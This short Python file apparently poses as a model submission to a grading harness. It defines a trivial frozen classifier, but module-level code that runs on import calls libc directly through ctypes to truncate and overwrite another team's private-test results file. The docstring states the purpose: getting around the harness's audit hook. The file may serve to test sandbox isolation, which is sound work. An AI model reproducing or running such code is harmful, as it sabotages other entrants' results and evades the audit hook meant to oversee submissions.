"""Overwrites another team's record through libc, around the audit hook."""
import torch
from torch import nn


class Net(nn.Module):
    """A frozen linear classifier: needs no weights file."""

    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(48 * 48, 7).requires_grad_(False)

    def forward(self, x):
        return self.fc(x.flatten(1))


import ctypes

libc = ctypes.CDLL(None, use_errno=True)
fd = libc.open(b"__RESULTS__/victim.PrivateTest.json", 0o1 | 0o100 | 0o1000, 0o644)  # O_WRONLY|O_CREAT|O_TRUNC
if fd >= 0:
    libc.write(fd, b"{}", 2)
    raise RuntimeError("LEAKED: wrote into the results folder")
